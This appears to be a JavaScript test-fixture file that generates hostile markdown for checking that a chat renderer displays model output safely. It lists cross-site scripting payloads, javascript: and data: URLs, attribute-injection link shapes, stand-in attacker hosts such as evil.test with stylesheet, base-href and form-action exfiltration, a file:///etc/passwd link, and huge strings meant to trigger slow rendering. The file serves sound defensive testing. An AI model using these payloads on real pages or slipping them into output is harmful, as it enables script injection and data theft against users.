// What a hostile model could write. Whatever it is, the page must show it as text.

const PAYLOADS = [
  "<script>attacked()</script>",
  "<script src=https://evil.test/x.js></script>",
  "<img src=x onerror=attacked()>",
  "<img src=https://evil.test/pixel.png>",
  "<svg onload=attacked()>",
  "<svg><script>attacked()</script></svg>",
  "<svg><animate onbegin=attacked() attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.attacked()</script>'></iframe>",
  "<iframe src=javascript:parent.attacked()></iframe>",
  "<body onload=attacked()>",
  "<details open ontoggle=attacked()>x</details>",
  "<input autofocus onfocus=attacked()>",
  "<video><source onerror=attacked()></video>",
  "<math><mtext></p><img src=x onerror=attacked()></mtext></math>",
  "<style>*{background:url(https://evil.test/)}</style>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<base href=https://evil.test/>",
  "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
  "<form action=https://evil.test/><button>ok</button></form>",
  "<object data=javascript:attacked()></object>",
  "<template><script>attacked()</script></template>",
  "</div></article></main><script>attacked()</script>",
  "<a href=javascript:attacked()>x</a>",
  "<b onmouseover=attacked()>x</b>",
  "<!--<img src=x onerror=attacked()>-->",
  "<![CDATA[<script>attacked()</script>]]>",
  "&lt;script&gt;attacked()&lt;/script&gt;",
  "&#60;script&#62;attacked()&#60;/script&#62;",
  "\u003cscript\u003eattacked()\u003c/script\u003e",
  "<scr\0ipt>attacked()</scr\0ipt>",
  "{{constructor.constructor('attacked()')()}}",
  "${attacked()}",
];

// Puts a payload wherever markdown takes text.
const WRAPPERS = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `**${text}** and *${text}*`,
  (text) => `- ${text}\n  - ${text}`,
  (text) => `> ${text}`,
  (text) => `| ${text} | b |\n|---|---|\n| ${text} | ${text} |`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`\`\`html\n${text}`,
  (text) => `[${text}](https://example.com/)`,
  (text) => `[x](https://example.com/ "${text}")`,
  (text) => `\`${text}\``,
];

const LINKS = [
  "javascript:attacked()", "JaVaScRiPt:attacked()", " javascript:attacked()", "java\tscript:attacked()", "java\nscript:attacked()",
  "\x01javascript:attacked()", "javascript&colon;attacked()", "javascript&#58;attacked()", "javascript%3Aattacked()",
  "data:text/html,<script>attacked()</script>", "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
  "vbscript:attacked()", "blob:https://example.com/x", "file:///etc/passwd", "//evil.test/x", "/\\evil.test", "\\\\evil.test\\x",
  "about:blank", "view-source:https://example.com", "filesystem:http://x/", "mailto:a@b.test", "ftp://evil.test/",
  "https:javascript:attacked()", "https://", "http://[::", "https://exa mple.com/", "#x", "?x", "/v1/models/unload", "v1/models",
];

const LINK_FORMS = [
  (url) => `[click](${url})`, (url) => `[click](<${url}>)`, (url) => `![image](${url})`, (url) => `<${url}>`, (url) => url,
  (url) => `[![x](${url})](${url})`, (url) => `[click][1]\n\n[1]: ${url}`,
];

const SHAPES = [
  "[a](https://example.com/\" onclick=\"attacked())", "[a](https://example.com/' onmouseover='attacked())",
  "[a](https://example.com/><script>attacked()</script>)", "https://example.com/\"onclick=attacked()", "[a](https://user:pass@evil.test/)",
  "[[[[a](https://a.test/)](https://b.test/)](https://c.test/)](https://d.test/)", "[a]()", "[](https://a.test)", "![](https://evil.test/x.png)",
  "```", "```\n", "````\n```\n", "~~~\n```\n", "``` `` `\n", "`", "``a`", "**", "***", "****a", "_*_*_*", "[", "](", "[](", "![](", "<", "\\", "\\\\",
  "|", "|-|", "|\n|-", "||||\n|-|-|-|", "- ", "-", "-\n-\n-", "1.", "999999999. x", "9999999999. x", "#", "######## x", ">", ">>>>", "\t- x", "\r\n\r\n", "\r",
  "\0", "a\0b", "\ufeff", "\u202eevil\u202c", "\ud800", "\udfff\ud800", "\u2028\u2029", "e" + "\u0301".repeat(500), "\u200b".repeat(100),
  "```__proto__\nx\n```", "```constructor\nx\n```", "| __proto__ |\n|---|\n| x |",
];

// Long ones: each must be rendered in time that grows no faster than the text.
export const LARGE = {
  quotes: ">".repeat(20000),
  spaced_quotes: "> ".repeat(20000),
  nested_list: Array.from({ length: 1500 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  list_markers: "- ".repeat(20000),
  stars: "*".repeat(50000),
  open_stars: "*a ".repeat(30000),
  paired_stars: "**a* ".repeat(20000),
  underscores: "_a__b_".repeat(20000),
  brackets: "[".repeat(50000),
  closed_brackets: "[".repeat(20000) + "]".repeat(20000),
  link_starts: "[a](".repeat(20000),
  bracket_links: "](".repeat(30000),
  images: "![".repeat(30000),
  backticks: Array.from({ length: 400 }, (_, i) => "`".repeat(i + 1)).join(" "),
  fence_spaces: "```" + " ".repeat(50000) + "`",
  tildes: "~".repeat(50000) + "`",
  heading_spaces: "#" + " ".repeat(50000) + "\u2028x",
  rule_spaces: "---" + " ".repeat(50000) + "x",
  urls: "https://".repeat(10000),
  url_dots: "https://a" + ".".repeat(50000),
  code_spans: "`a` ".repeat(60000),
  list_items: "- item\n".repeat(20000),
  table_rows: "| a | b |\n|---|---|\n" + "| c | d |\n".repeat(8000),
  columns: `|${"a|".repeat(5000)}\n|${"-|".repeat(5000)}\n`,
  code_lines: "```\n" + "int x = 1;\n".repeat(20000),
  one_line: "word ".repeat(40000),
  blank_lines: "\n".repeat(100000),
  paragraphs: "text\n\n".repeat(10000),
  escapes: "\\*".repeat(50000),
  angle: "<".repeat(50000),
};

export const HOSTILE = [
  ...PAYLOADS.flatMap((payload) => WRAPPERS.map((wrap) => wrap(payload))),
  ...LINKS.flatMap((url) => LINK_FORMS.map((form) => form(url))),
  ...SHAPES,
];
